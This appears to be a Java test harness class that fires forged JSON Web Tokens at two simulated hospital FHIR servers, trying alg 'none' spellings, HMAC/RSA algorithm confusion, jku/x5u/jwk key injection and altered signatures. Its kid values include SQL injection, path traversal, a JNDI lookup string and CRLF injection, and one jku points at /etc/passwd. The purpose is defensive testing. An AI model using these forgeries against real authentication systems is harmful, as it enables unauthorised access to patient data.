package org.auscult.prove.attack;

import static java.nio.charset.StandardCharsets.UTF_8;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.security.interfaces.RSAPublicKey;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import org.auscult.prove.FhirCalls;
import org.auscult.prove.attack.Door.PublicKnown;
import org.auscult.prove.hospital.Jwt;
import org.auscult.prove.hospital.KeyOf;
import org.auscult.prove.hospital.TwoHospitals;

/** Tokens that the right key did not sign: at each door, in each known way. */
final class ForgedTokens implements Attack {
  private final KeyOf own = KeyOf.make("own", "RS384");
  private final KeyOf ownCurve = KeyOf.make("own-curve", "ES384");
  private final OwnCertificate certificate;
  private final int trap;

  /**
   * @param trap port of a server that must never be called
   */
  ForgedTokens(OwnCertificate certificate, int trap) {
    this.certificate = certificate;
    this.trap = trap;
  }

  @Override
  public void run(Tries tries) throws IOException {
    TwoHospitals hospitals = tries.hospitals();
    for (Door door : Door.values()) {
      String at = ", " + door.bearer();
      tries.of("algorithm none" + at);
      tries.control(door.bearer(), door.ask(hospitals, door.right(hospitals).compact()), 200);
      none(tries, door);
      tries.of("algorithm confusion" + at);
      confusion(tries, door);
      tries.of("key by jwk, jku, x5u, x5c" + at);
      injection(tries, door);
      tries.of("kid as path, as SQL" + at);
      kid(tries, door);
      tries.of("signature or payload altered" + at);
      altered(tries, door);
    }
  }

  private static void none(Tries tries, Door door) throws IOException {
    Jwt right = door.right(tries.hospitals());
    List<String> spellings =
        new ArrayList<>(List.of("none", "None", "NONE", "nOnE", "none ", "\\u006eone", "", "null"));
    for (int i = 0; i < tries.times(2, 20); i++) {
      spellings.add(randomCase("none", tries.random()));
    }
    for (String alg : spellings) {
      String header =
          header(right).replaceFirst("\"alg\":\"[^\"]*\"", "\"alg\":\"" + escaped(alg) + "\"");
      Jwt unsigned = Jwt.of(header, fresh(right), Jwt.UNSIGNED);
      door.attempt(tries, "alg " + alg, unsigned.compact());
      door.attempt(
          tries, "alg " + alg + ", signature kept", unsigned.signed(right.signature()).compact());
    }
    ObjectNode without = right.headerTree();
    without.remove("alg");
    door.attempt(tries, "no alg", Jwt.of(without.toString(), fresh(right), Jwt.UNSIGNED).compact());
    without.putNull("alg");
    door.attempt(
        tries, "alg null", Jwt.of(without.toString(), fresh(right), Jwt.UNSIGNED).compact());
    String two = Jwt.of(header(right), fresh(right), Jwt.UNSIGNED).compact();
    door.attempt(tries, "no signature", two);
    door.attempt(tries, "two parts only", two.substring(0, two.length() - 1));
  }

  private static String escaped(String alg) {
    return alg.replace("\\", "\\\\");
  }

  private static String randomCase(String text, Random random) {
    StringBuilder mixed = new StringBuilder();
    text.chars()
        .forEach(c -> mixed.append((char) (random.nextBoolean() ? Character.toUpperCase(c) : c)));
    return mixed.toString();
  }

  private static void confusion(Tries tries, Door door) throws IOException {
    Jwt right = door.right(tries.hospitals());
    for (Map.Entry<String, byte[]> secret : secrets(door.known(tries.hospitals())).entrySet()) {
      for (String alg : List.of("HS256", "HS384", "HS512")) {
        String header = right.headerTree().put("alg", alg).toString();
        Jwt jwt = Jwt.of(header, fresh(right), Jwt.hmac(secret.getValue(), alg));
        door.attempt(tries, alg + " with the public key as " + secret.getKey(), jwt.compact());
      }
    }
  }

  private static Map<String, byte[]> secrets(PublicKnown known) {
    byte[] der = known.key().getEncoded();
    String base64 = Base64.getMimeEncoder(64, "\n".getBytes(UTF_8)).encodeToString(der);
    String pem = "-----BEGIN PUBLIC KEY-----\n" + base64 + "\n-----END PUBLIC KEY-----";
    Map<String, byte[]> secrets = new LinkedHashMap<>();
    secrets.put("DER", der);
    secrets.put("PEM", pem.getBytes(UTF_8));
    secrets.put("PEM with line feed", (pem + "\n").getBytes(UTF_8));
    secrets.put("JWK", known.jwk().getBytes(UTF_8));
    secrets.put("JWK set", ("{\"keys\":[" + known.jwk() + "]}").getBytes(UTF_8));
    if (known.key() instanceof RSAPublicKey rsa) {
      secrets.put("modulus", rsa.getModulus().toByteArray());
    }
    return secrets;
  }

  private void injection(Tries tries, Door door) throws IOException {
    Jwt right = door.right(tries.hospitals());
    Map<String, Object> offered = new LinkedHashMap<>();
    offered.put("jwk", tree(own.publicJwk()));
    List<String> addresses =
        List.of(
            "http://127.0.0.1:" + trap + "/jwks.json",
            "https://127.0.0.1:" + trap + "/jwks.json",
            "http://localhost:" + trap + "/jwks.json",
            tries.hospitals().wire().root() + "@127.0.0.1:" + trap + "/jwks.json",
            "file:///etc/passwd",
            "data:application/json," + own.publicJwk());
    addresses.forEach(a -> offered.put("jku " + a, a));
    offered.put("x5u", "http://127.0.0.1:" + trap + "/chain.pem");
    offered.put("x5c", certificate.chain());
    for (Map.Entry<String, Object> offer : offered.entrySet()) {
      String name = offer.getKey().replaceFirst(" .*", "");
      for (KeyOf key : List.of(own, ownCurve)) {
        ObjectNode header = right.headerTree().put("alg", key.algorithm());
        boolean isCertified = name.equals("x5c");
        header.set(name, FhirCalls.JSON.valueToTree(offer.getValue()));
        Jwt.Signer signer = isCertified ? certificate.signer() : key.signer();
        header.put("alg", isCertified ? "RS384" : key.algorithm());
        for (String kid : List.of(key.id(), right.headerTree().path("kid").asText())) {
          Jwt jwt = Jwt.of(header.put("kid", kid).toString(), fresh(right), signer);
          door.attempt(tries, offer.getKey() + ", kid " + kid, jwt.compact());
        }
      }
    }
  }

  private void kid(Tries tries, Door door) throws IOException {
    Jwt right = door.right(tries.hospitals());
    List<String> kids =
        List.of(
            "../../../../../../dev/null",
            "/dev/null",
            "file:///dev/null",
            "' OR '1'='1",
            "x' UNION SELECT 'AA' --",
            "x'; DROP TABLE signing_key; --",
            "*",
            "%",
            "${jndi:ldap://127.0.0.1:" + trap + "/a}",
            "a\r\nInjected: line",
            "\u0000",
            "k".repeat(3_000));
    for (String kid : kids) {
      String shown = kid.length() > 50 ? kid.substring(0, 9) + "…" : kid;
      ObjectNode header = right.headerTree().put("kid", kid);
      Jwt empty = Jwt.of(header.put("alg", "HS256").toString(), fresh(right), zero("HS256"));
      door.attempt(tries, "kid " + shown + ", empty secret", empty.compact());
      header.put("alg", own.algorithm());
      door.attempt(
          tries, "kid " + shown, Jwt.of(header.toString(), fresh(right), own.signer()).compact());
    }
    for (String kid : List.of("7", "true", "null", "{}", "[\"a\"]")) {
      String header = right.headerTree().put("kid", "KID").toString().replace("\"KID\"", kid);
      door.attempt(tries, "kid " + kid, Jwt.of(header, fresh(right), own.signer()).compact());
    }
    ObjectNode header = right.headerTree();
    header.remove("kid");
    door.attempt(tries, "no kid", Jwt.of(header.toString(), fresh(right), own.signer()).compact());
  }

  private static Jwt.Signer zero(String algorithm) {
    return Jwt.hmac(new byte[0], algorithm);
  }

  private void altered(Tries tries, Door door) throws IOException {
    Jwt right = door.right(tries.hospitals());
    door.attempt(
        tries, "another key's", Jwt.of(header(right), fresh(right), own.signer()).compact());
    door.attempt(
        tries,
        "payload changed",
        new Jwt(header(right), fresh(right), right.signature()).compact());
    door.attempt(tries, "all zeros", right.signed(new byte[right.signature().length]).compact());
    ObjectNode curve = right.headerTree().put("alg", "ES384");
    for (String alg : List.of("ES256", "ES384", "ES512")) {
      Jwt zeros = new Jwt(curve.put("alg", alg).toString(), fresh(right), new byte[96]);
      door.attempt(tries, alg + " of r = s = 0", zeros.compact());
    }
    for (int i = 0; i < tries.times(4, 100); i++) {
      byte[] signature = right.signature().clone();
      signature[tries.random().nextInt(signature.length)] ^=
          (byte) (1 << tries.random().nextInt(8));
      door.attempt(tries, "one bit turned", right.signed(signature).compact());
      int length = tries.random().nextInt(signature.length);
      door.attempt(
          tries, "cut off", right.signed(Arrays.copyOf(right.signature(), length)).compact());
    }
    for (String part : List.of("a.b.c", "..", "e30.e30.", "W10.W10.AA", "bnVsbA.bnVsbA.AA", "x")) {
      door.attempt(tries, "no JWT: " + part, part);
    }
    door.attempt(tries, "100 kB", "e30." + "A".repeat(7_000) + ".AA");
  }

  private static String header(Jwt right) {
    return right.headerTree().toString();
  }

  /** Its claims as if made now, so that nothing but the forgery is wrong. */
  private static String fresh(Jwt right) {
    return right.claimsTree().put("jti", UUID.randomUUID().toString()).toString();
  }

  private static Object tree(String json) {
    try {
      return FhirCalls.JSON.readTree(json);
    } catch (IOException e) {
      throw new IllegalStateException("A JWK is JSON", e);
    }
  }
}
